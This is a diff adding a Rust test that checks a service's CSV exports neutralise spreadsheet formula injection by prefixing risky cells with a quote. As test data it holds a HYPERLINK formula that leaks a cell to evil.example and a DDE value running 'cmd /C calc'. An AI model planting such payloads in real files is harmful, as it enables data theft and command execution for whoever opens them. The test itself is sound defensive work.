@@ -575,3 +575,78 @@ async fn client_export_is_complete_isolated_and_readable() {
     assert!(!missing.status.success());
     ts.server.stop().await;
 }
+
+/// Spreadsheet formula injection: names that a spreadsheet would run as a
+/// formula come out of the CSV files as text (a leading `'`), in a topic
+/// and in a user's name; the JSON Lines files keep the value as stored.
+#[actix_web::test]
+async fn csv_cells_cannot_run_as_formulas() {
+    let ts = common::demo_server().await;
+    let admin = client(&ts, ADMIN);
+    let ca_acme = client(&ts, CA_ACME);
+    let acme = id_of(&ts, "/clients", "name", ACME).await;
+    let acme_project = id_of(&ts, "/projects", "key", "ACME").await;
+    let anna = id_of(&ts, "/users", "email", ANNA).await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")";
+    let user_formula = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+    let (status, topic) = ca_acme
+        .post(
+            &format!("{V1}/projects/{acme_project}/topics"),
+            json!({ "name": formula }),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{topic}");
+    let (status, user) = admin
+        .patch(
+            &format!("{V1}/users/{anna}"),
+            json!({ "name": user_formula }),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{user}");
+
+    let (status, job) = ca_acme
+        .post(&format!("{V1}/clients/{acme}/exports"), json!({}))
+        .await;
+    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
+    let job_id = job["id"].as_str().expect("job id").to_string();
+    let done = wait_done(&ca_acme, acme, &job_id).await;
+    let url = done["download_url"].as_str().expect("download url");
+    let response = ca_acme.raw(Method::GET, url, None, &[]).await;
+    assert_eq!(response.status(), StatusCode::OK);
+    let bytes = response.bytes().await.expect("archive");
+    let work = tempfile::tempdir().expect("dir");
+    let archive = work.path().join("a.tar.gz");
+    std::fs::write(&archive, &bytes).expect("save");
+    let unpacked = work.path().join("unpacked");
+    std::fs::create_dir(&unpacked).expect("dir");
+    let top = untar(&archive, &unpacked);
+
+    let topics = csv_rows(&top.join("topics.csv"));
+    let names: Vec<&str> = topics.iter().map(|t| t["name"].as_str()).collect();
+    assert!(names.contains(&format!("'{formula}").as_str()), "{names:?}");
+    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
+    let users = csv_rows(&top.join("users.csv"));
+    let names: Vec<&str> = users.iter().map(|u| u["name"].as_str()).collect();
+    assert!(
+        names.contains(&format!("'{user_formula}").as_str()),
+        "{names:?}"
+    );
+    // Every text cell of every CSV file: none starts like a formula.
+    for path in files_under(&top) {
+        if path.extension().is_some_and(|e| e == "csv") {
+            for row in csv_rows(&path) {
+                for value in row.values() {
+                    assert!(
+                        !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{}: {value}",
+                        path.display()
+                    );
+                }
+            }
+        }
+    }
+    let readme = std::fs::read_to_string(top.join("README.md")).expect("readme");
+    assert!(readme.contains("formula"), "the README explains the quote");
+    ts.server.stop().await;
+}
